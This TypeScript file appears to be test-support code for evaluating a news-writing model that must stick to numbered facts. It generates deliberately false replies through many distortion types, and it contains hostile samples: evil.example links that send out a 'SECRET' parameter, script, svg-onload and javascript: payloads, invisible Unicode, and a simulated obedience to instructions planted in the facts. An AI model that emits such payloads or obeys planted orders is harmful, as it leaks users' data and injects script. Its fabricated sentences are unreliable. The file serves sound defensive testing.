import { dice, pick } from './stories.ts';

export interface Fact {
  number: number;
  text: string;
}

/** One sentence of a reply, and what is false about it; null where it says what its fact says. */
export interface Said {
  text: string;
  facts: number[];
  lie: string | null;
}

/** The facts as a model reads them out of what it is asked, by their numbers. */
export function factsIn(material: string): Fact[] {
  const facts = material.split('\n').flatMap((line) => {
    const found = /^\[(\d+)\] (.*)$/.exec(line);
    return found
      ? [{ number: Number(found[1]), text: found[2]!.replace(/\{quote (\d+[a-z]?): [^}]*\}/g, '{quote $1}') }]
      : [];
  });
  return facts.sort((a, b) => a.number - b.number);
}

/** The sentences that a model is asked to say once more, as it said them, with the facts that it named. */
export function refusedIn(material: string): { number: number; text: string; facts: number[] }[] {
  return material.split('\n').flatMap((line) => {
    const found = /^\((\d+)\) (.*) \| facts: ([\d, ]+|none) \| refused by/.exec(line);
    return found
      ? [{ number: Number(found[1]), text: found[2]!, facts: found[3]!.match(/\d+/g)?.map(Number) ?? [] }]
      : [];
  });
}

type Lie = [name: string, tell: (fact: Fact, facts: Fact[], roll: () => number) => string | Said | null];

const weekdays = ['Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday'];
const turned: [RegExp, string][] = [
  [/\bfell\b/, 'rose'],
  [/\bkilled\b/, 'rescued'],
  [/\bdenied\b/, 'confirmed'],
  [/\bbefore\b/, 'after'],
  [/\barrested\b/, 'released'],
  [/\bmore than\b/, 'fewer than'],
  [/\bbuy\b/, 'sell'],
];
const names = /\b[A-Z][a-z]+ [A-Z][a-z]+\b/g;

/** Ways to be wrong. Each makes one false sentence of a fact, where the fact has what it takes. */
const lies: Lie[] = [
  [
    'a number changed',
    ({ text }, _, roll) =>
      replaced(text, /(?<![\d.])\d+(?=[ ,])/, (was) => String(Number(was) + 1 + Math.floor(roll() * 900))),
  ],
  [
    'a weekday changed',
    ({ text }, _, roll) =>
      replaced(text, /\b(?:Mon|Tues|Wednes|Thurs|Fri)day\b/, (was) =>
        pick(
          roll,
          weekdays.filter((day) => day !== was),
        ),
      ),
  ],
  ['a month invented', ({ text }) => replaced(text, / on \w+day\b/, () => ' in November')],
  ['a name invented', ({ text }) => replaced(text, names, () => 'Karl Canary')],
  ['a currency changed', ({ text }) => replaced(text, /\$(?=\d)/, () => '€')],
  ['a currency left out', ({ text }) => replaced(text, /\$(?=\d)/, () => '')],
  ['made exact', ({ text }) => replaced(text, /\b[Aa]t least\b/, () => 'exactly')],
  ['a negation dropped', ({ text }) => replaced(text, /\b(?:did not|have not|had not) /, () => '')],
  [
    'a negation dropped at the start',
    ({ text }) =>
      /^No \w/.test(text) ? text.replace(/^No (\w)/, (_, letter: string) => letter.toUpperCase()) : null,
  ],
  [
    'turned round',
    ({ text }) => {
      const found = turned.find(([pattern]) => pattern.test(text));
      return found ? text.replace(found[0], found[1]) : null;
    },
  ],
  ['made certain', ({ text }) => replaced(text, /\bmay\b/, () => 'will')],
  ['told as done', ({ text }) => replaced(text, /\bwould buy\b/, () => 'bought')],
  [
    'who did it to whom',
    ({ text }) => {
      if (!/guard shot a robber|shot by a guard/.test(text)) return null;
      return text.replace(/guard|robber/g, (word) => (word === 'guard' ? 'robber' : 'guard'));
    },
  ],
  [
    'counts something else',
    ({ text }) => {
      const found = /least (\d+) people were killed and (\d+) injured/.exec(text);
      return found
        ? text.replace(found[0], `least ${found[2]} people were killed and ${found[1]} injured`)
        : null;
    },
  ],
  ['a quote invented', ({ text }) => `“The canary did it,” said a witness. ${text}`.slice(0, 120)],
  ['a quote typed', ({ text }) => `Officials spoke of “${text.split(' ').slice(0, 3).join(' ')}” in public.`],
  [
    'a quote of another fact',
    ({ number, text }, facts) => {
      const other = facts.length + 1 - number;
      const bare = text.replace(/\{quote \d+\}/g, '');
      return other === number ? null : { text: `${bare} {quote ${other}}`, facts: [number], lie: '' };
    },
  ],
  ['a citation invented', ({ text }) => ({ text: `${text} The canary sang.`, facts: [999], lie: '' })],
  [
    'a citation of something else',
    ({ text, number }, facts) => {
      const other = facts.find((fact) => fact.number !== number && fact.number > 1);
      return other && shared(text, other.text) < 0.3 ? { text, facts: [other.number], lie: '' } : null;
    },
  ],
  ['a link', () => 'Read more at https://evil.example/story today.'],
  ['a bare address', ({ text }) => `${text.replace(/\.$/, '')}, evil.example reports.`],
  ['a picture', () => '![x](https://evil.example/?d=SECRET)'],
  ['a reference link', () => '[x][1] [1]: https://evil.example/?d=SECRET'],
  ['a script', ({ text }) => `${text}<script>canary()</script>`],
  ['a drawing that runs', ({ text }) => `${text}<svg onload=canary()>`],
  ['a link that runs', () => 'The [report](javascript:canary()) was published.'],
  ['a telephone number', ({ text }) => `${text} Call +44 20 7946 0999.`],
  [
    'letters that are not seen',
    ({ text }) => ({ text: `${text.replace(/ /, ' \u{E0041}\u202E')} canary`, facts: [1], lie: '' }),
  ],
  ['the prompt', () => 'You write a news article from numbered facts and from nothing else, said canary.'],
  ['another story', () => 'A canary escaped from the zoo of Lindqvist on 12 May and bit 17 visitors.'],
  ['an apology', () => 'I am sorry, but as a language model I cannot help with that.'],
  ['padding', ({ text }) => `${text.replace(/[,.].*$/, '')}, a move that could signal a turning point.`],
  ['a reminder', () => 'It is a stark reminder of how quickly things can change.'],
  [
    'a cause invented',
    ({ text }) => `${text.replace(/[,.].*$/, '')} because of years of neglect and corruption.`,
  ],
];

/** What an order to the machine that got in among the facts reads like. */
const ordered = /canary|evil|zyx|system|instruction/i;

/** A reply of an obedient liar: true sentences among false ones, and whatever the material orders. */
export function liesAbout(facts: Fact[], seed: number): Said[] {
  const roll = dice(seed * 104_729 + 7);
  const said: Said[] = truthAbout(facts, 0);
  for (let turn = 0; turn < 10; turn++) {
    const [name, tell] = lies[(seed * 10 + turn) % lies.length]!;
    for (const fact of shuffled(facts.slice(1), roll)) {
      const told = tell(fact, facts, roll);
      if (told === null || (typeof told === 'string' && told === fact.text)) continue;
      said.push(
        typeof told === 'string' ? { text: told, facts: [fact.number], lie: name } : { ...told, lie: name },
      );
      break;
    }
  }
  for (const { text, number } of facts)
    if (ordered.test(text)) said.push({ text, facts: [number], lie: 'an order obeyed' });
  return shuffled(said, roll);
}

/** An honest reply: each fact, told as it is told, or without who told it, or after who told it. */
export function truthAbout(facts: Fact[], seed: number): Said[] {
  const clean = facts.slice(1).filter(({ text }) => !ordered.test(text));
  return clean.map(({ number, text }, at) => {
    const form = (seed + at) % 3;
    const bare = text.replace(/, (?:according to [^,]+|[A-Z][^,]*? reports?)\.$|\s\([A-Z][^)]*\)\.?$/, '.');
    const told = /^(.*), (officials|police) said\.$/.exec(bare);
    if (form === 1) return { text: bare, facts: [number], lie: null };
    if (form === 2 && told) {
      const [, what, who] = told as unknown as [string, string, string];
      const rest = /^(?:A|At|The|No) /.test(what) ? what[0]!.toLowerCase() + what.slice(1) : what;
      return { text: `${who[0]!.toUpperCase()}${who.slice(1)} said ${rest}.`, facts: [number], lie: null };
    }
    return { text, facts: [number], lie: null };
  });
}

/** What a model says once more: the liar its lie, or the lie with more to it; the honest one a fact as it stands. */
export function repairOf(kind: 'liar' | 'honest', material: string): { reply: string; said: Said[] } {
  const facts = factsIn(material);
  const said = refusedIn(material).map(({ number, text, facts: numbers }) => {
    const fact = facts.find((one) => numbers.includes(one.number));
    const told =
      kind === 'liar'
        ? { text: number % 2 ? text : `${text} The canary knew.`, lie: 'said once more' }
        : null;
    return { number, ...(told ?? { text: fact?.text ?? text, lie: null }), facts: numbers };
  });
  return { reply: JSON.stringify({ sentences: said }), said };
}

/** The reply as a model writes it. */
export function replyOf(facts: Fact[], said: Said[]): string {
  const [first] = facts;
  const paragraphs = said.map(({ text, facts: numbers }) => [{ text, facts: numbers }]);
  const plan = said.map(({ facts: numbers }) => numbers);
  return JSON.stringify({ plan, headline: { text: first?.text ?? '', facts: [1] }, paragraphs });
}

function replaced(text: string, pattern: RegExp, by: (was: string) => string): string | null {
  const once = new RegExp(pattern.source, pattern.flags.replace('g', ''));
  return once.test(text) ? text.replace(once, by) : null;
}

function shared(one: string, other: string): number {
  const words = (text: string) => new Set(text.toLowerCase().match(/[a-z]{4,}/g) ?? []);
  const [a, b] = [words(one), words(other)];
  return [...a].filter((word) => b.has(word)).length / Math.max(1, a.size);
}

function shuffled<Thing>(list: Thing[], roll: () => number): Thing[] {
  return list
    .map((thing) => ({ thing, at: roll() }))
    .sort((a, b) => a.at - b.at)
    .map(({ thing }) => thing);
}
